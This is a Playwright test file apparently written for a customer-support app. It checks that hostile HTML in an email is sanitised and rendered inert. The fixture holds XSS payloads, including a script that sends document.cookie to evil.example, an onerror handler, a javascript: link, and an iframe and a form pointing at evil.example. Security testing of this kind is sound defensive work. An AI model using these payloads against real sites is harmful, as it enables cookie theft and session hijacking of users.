import { expect, test, type APIRequestContext } from '@playwright/test';
import { callApi } from './api';
import { startHost, type Host } from './host';

let host: Host;
test.beforeAll(async () => {
  host = await startHost({ args: ['--demo-customers', '10'] });
});
test.afterAll(async () => host.stop());

const api = <T>(request: APIRequestContext, method: string, input: unknown) => callApi<T>(request, host, method, input);

const HOSTILE = `<p>您好，<b>请看附件</b></p>
<script>window.parent.__pwned = 1; fetch('https://evil.example/steal?c=' + document.cookie)</script>
<img src="https://tracker.example/pixel.gif" alt="tracker">
<img src="x" onerror="window.parent.__pwned = 2">
<a href="javascript:window.parent.__pwned = 3">点我</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="pw"></form>
<div style="background:url(https://tracker.example/bg.png)">退款</div>`;

test('HTML and script in an email stay inert: nothing runs and nothing remote is requested', async ({ page, request }) => {
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const { interactionId } = await api<{ interactionId: string }>(request, 'test.simulateInbound', { channel: 'email', subject: '<script>alert(1)</script> 退款申请', body: '纯文本版本 <script>alert(1)</script>', html: HOSTILE });
  const tab = await api<{ id: string }>(request, 'tabs.open', { kind: 'interaction', refId: interactionId });
  await page.goto(`${host.url}#/tab/${tab.id}`);
  const frame = page.frameLocator('iframe[title="邮件正文"]');
  await expect(frame.getByText('请看附件')).toBeVisible();
  await expect(page.getByText('已阻止 1 张外部图片。')).toBeVisible();
  await expect(page.getByRole('heading', { level: 2 })).toBeVisible();
  await expect(page.getByText('<script>alert(1)</script> 退款申请', { exact: false })).toBeVisible();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  const external = requests.filter((u) => !u.startsWith(host.origin) && !u.startsWith('about:') && !u.startsWith('data:'));
  expect(external).toEqual([]);
  const html = await page.locator('iframe[title="邮件正文"]').getAttribute('srcdoc');
  expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|<form|tracker\.example/);
});
